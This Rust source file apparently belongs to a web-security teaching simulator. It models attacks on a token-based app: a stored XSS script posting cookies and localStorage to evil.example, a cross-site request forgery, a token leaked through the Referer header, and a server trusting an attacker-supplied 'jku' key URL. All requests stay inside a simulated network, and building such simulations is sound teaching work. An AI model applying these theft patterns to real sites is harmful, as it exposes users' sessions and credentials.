//! The attacker's episodes: the comments page (a stored script when `xss` is
//! on), a visit to `evil.example` (cross-site requests), and what servers fetch
//! from elsewhere (a `jku` key set), each logged as its own exchange.

use super::*;

/// The app's page the user is on when a link is clicked.
const PAGE_PATH: &str = "/profile";

impl World {
    /// The comments page: a visitor's comment shown escaped (nothing runs),
    /// or with `xss` on, as HTML, so its script reads `document.cookie` and
    /// `localStorage` and posts them to `evil.example`.
    pub(super) fn do_comments_page(&mut self) -> Option<Exchange> {
        let runs = self.cluster.weaknesses().contains(&Weakness::Xss);
        self.loot.script_ran = Some(runs);
        if !runs {
            return None;
        }
        let view = self.browser.script_view(self.clock.now);
        let read = read_by_script(&view.document_cookie, &view.local_storage);
        let body = Json::object([
            ("cookie", Json::string(view.document_cookie.clone())),
            (
                "storage",
                Json::object(
                    view.local_storage
                        .iter()
                        .map(|(k, v)| (k.clone(), Json::string(v.clone()))),
                ),
            ),
        ])
        .to_compact();
        let request = Request::new(Method::Post, COLLECT_PATH)
            .with_header("Host", ATTACKER_HOST)
            .with_header("Origin", format!("https://{HOST}"))
            .with_header("Content-Type", "text/plain;charset=UTF-8")
            .with_header("Content-Length", body.len().to_string());
        let request = Request {
            body: Some(body),
            ..request
        };
        let in_http_only = self.mode == Mode::Jwt
            && self.browser.storage() == TokenStorage::HttpOnlyCookie
            && self.browser.jar.get(TOKEN_COOKIE).is_some();
        let detail = if read.is_empty() && in_http_only {
            "nothing: the token sits in an HttpOnly cookie, which document.cookie never shows, and localStorage is empty. No token to steal (though the script could still send requests from the page, and the browser would add the cookie).".to_string()
        } else if read.is_empty() {
            "nothing: no cookie without HttpOnly, and localStorage is empty. A token in a page variable is out of the script's reach (though it could still send requests from the page).".to_string()
        } else {
            read.iter()
                .map(|s| format!("{} from {}", s.name, s.from))
                .collect::<Vec<_>>()
                .join(", ")
        };
        for item in read {
            self.loot
                .stolen
                .retain(|s| !(s.name == item.name && s.from == item.from));
            self.loot.stolen.push(item);
        }
        self.note_script_read();
        let response = Response::json(200, &Json::object([("stored", Json::Bool(true))]));
        let step = CheckStep::pass(
            StepId::Collect,
            "evil.example keeps what the script sent",
            detail,
        );
        Some(self.log_elsewhere(
            Sender::InjectedScript,
            request,
            response,
            "The script hidden in the comment runs in the app's page and posts what it can read to evil.example.".to_string(),
            step,
        ))
    }

    /// The user's browser on `evil.example`: its page posts
    /// `{"name": ...}` as `text/plain` to the app (no CORS preflight). The
    /// browser adds the app's cookies only as their `SameSite` allows, and
    /// never a bearer token: the other site's script cannot read it.
    pub(super) fn do_cross_site(&mut self) -> Exchange {
        let now = self.clock.now;
        let body = Json::object([("name", Json::string(CSRF_NAME))]).to_compact();
        let mut request = Request::new(Method::Post, RENAME_PATH)
            .with_header("Host", HOST)
            .with_header("Origin", format!("https://{ATTACKER_HOST}"))
            .with_header("Content-Type", "text/plain;charset=UTF-8")
            .with_header("Content-Length", body.len().to_string());
        if let Some(cookies) = self.browser.jar.cookie_header(
            RENAME_PATH,
            now,
            Initiator::CrossSiteSubresource,
            &Method::Post,
        ) {
            request = request.with_header("Cookie", cookies);
        }
        request.body = Some(body);
        let exchange = self.dispatch(request, Sender::CrossSite);
        self.browser
            .jar
            .apply_response(&exchange.response, RENAME_PATH, now);
        exchange
    }

    /// The user clicks a link on the app's page that leads to `evil.example`.
    /// The browser sends the page's address as `Referer`. With `token-in-url`
    /// on, that address holds the token, and the page's old-style
    /// `Referrer-Policy: no-referrer-when-downgrade` (browsers' default before
    /// 2020) lets it go whole; otherwise today's default,
    /// `strict-origin-when-cross-origin`, sends the origin only.
    pub(super) fn do_follow_link(&mut self) -> Exchange {
        let in_url =
            self.mode == Mode::Jwt && self.cluster.weaknesses().contains(&Weakness::TokenInUrl);
        let token = self
            .browser
            .script_token()
            .map(|t| t.trim().to_string())
            .filter(|t| !t.is_empty());
        let referer = match (&token, in_url) {
            (Some(token), true) => {
                let page = Request::get(PAGE_PATH).with_query_param(QUERY_TOKEN, token);
                format!("https://{HOST}{}", page.path)
            }
            _ => format!("https://{HOST}/"),
        };
        let request = Request::new(Method::Get, "/")
            .with_header("Host", ATTACKER_HOST)
            .with_header("Referer", referer.clone());
        let leaked = crate::sim::http::query_param_of(&referer, QUERY_TOKEN);
        let detail = match &leaked {
            Some(_) => format!(
                "The Referer is the address of the page the visitor came from, query string and all: {} holds the token (access_token). evil.example keeps it.",
                crate::jwt::display::shorten(&referer, 60)
            ),
            None => format!(
                "The Referer says only {referer}: the page's address holds no token, and the browser sends the origin alone to another site. Nothing to keep."
            ),
        };
        if let Some(value) = leaked {
            self.loot
                .stolen
                .retain(|s| !(s.name == QUERY_TOKEN && s.from == REFERER));
            self.loot.stolen.push(Stolen {
                name: QUERY_TOKEN.to_string(),
                value,
                from: REFERER,
            });
        }
        let response = Response::html(200, "<h1>evil.example</h1>");
        let step = CheckStep::pass(
            StepId::Collect,
            "evil.example keeps the Referer of its visitors",
            detail,
        );
        self.log_elsewhere(
            Sender::Page,
            request,
            response,
            "The user clicks a link on the app's page; the browser opens evil.example and says where it came from (Referer).".to_string(),
            step,
        )
    }

    /// Log an exchange another site answered (not the app's servers).
    pub(super) fn log_elsewhere(
        &mut self,
        sender: Sender,
        request: Request,
        response: Response,
        note: String,
        step: CheckStep,
    ) -> Exchange {
        let title = "evil.example: the attacker's site";
        self.log_elsewhere_titled(sender, request, response, note, step, title)
    }

    /// Log an exchange another site answered, under its own title.
    pub(super) fn log_elsewhere_titled(
        &mut self,
        sender: Sender,
        request: Request,
        response: Response,
        note: String,
        step: CheckStep,
        title: &'static str,
    ) -> Exchange {
        let exchange = Exchange {
            seq: self.next_seq,
            at: self.clock.now,
            sender,
            request: request_for_log(&request),
            response: response_for_log(&response),
            server_id: None,
            routing: Routing {
                server_id: None,
                note,
            },
            trace: Trace::Elsewhere {
                title,
                steps: vec![step],
            },
            fetched: Vec::new(),
        };
        self.next_seq = self.next_seq.saturating_add(1);
        if self.log.len() >= MAX_LOG {
            self.log.remove(0);
        }
        self.log.push(exchange.clone());
        exchange
    }

    /// With `trust-jku` on, a server checking a token whose header names a
    /// `jku` fetches that URL first: the log shows where it went.
    pub(super) fn log_jku_fetch(&mut self, server_id: usize, token: &str) {
        let Some(url) = jku_of(token) else {
            return;
        };
        let Some((host, path)) = split_url(&url) else {
            return;
        };
        let issuer = (self.cluster.key_mode() == KeyMode::KeyPair).then(|| self.cluster.issuer());
        let site = crate::sim::internet::key_set_at(&url, issuer);
        let request = Request::new(Method::Get, path)
            .with_header("Host", host)
            .with_header("Accept", "application/jwk-set+json, application/json");
        let (response, step) = match site {
            Some(site) => (
                Response::json(200, &site.keys.to_public_json()),
                CheckStep::pass(
                    StepId::Serve,
                    "Serve the key set at the address the token gave",
                    match site.publisher {
                        crate::sim::internet::Publisher::Attacker => "evil.example serves the attacker's own public key (kid evil-1): it checks whatever the attacker signs",
                        crate::sim::internet::Publisher::Issuer => "the issuer's own key set",
                    },
                ),
            ),
            None => (
                Response::error(
                    404,
                    format!("Nothing answers at {url} in the simulated network."),
                ),
                CheckStep::fail(
                    StepId::Serve,
                    "Serve the key set at the address the token gave",
                    format!("nothing at {url}"),
                ),
            ),
        };
        self.log_elsewhere(
            Sender::Server(server_id),
            request,
            response,
            format!("Server {server_id} fetches the key set the token's jku names: {url}."),
            step,
        );
    }
}
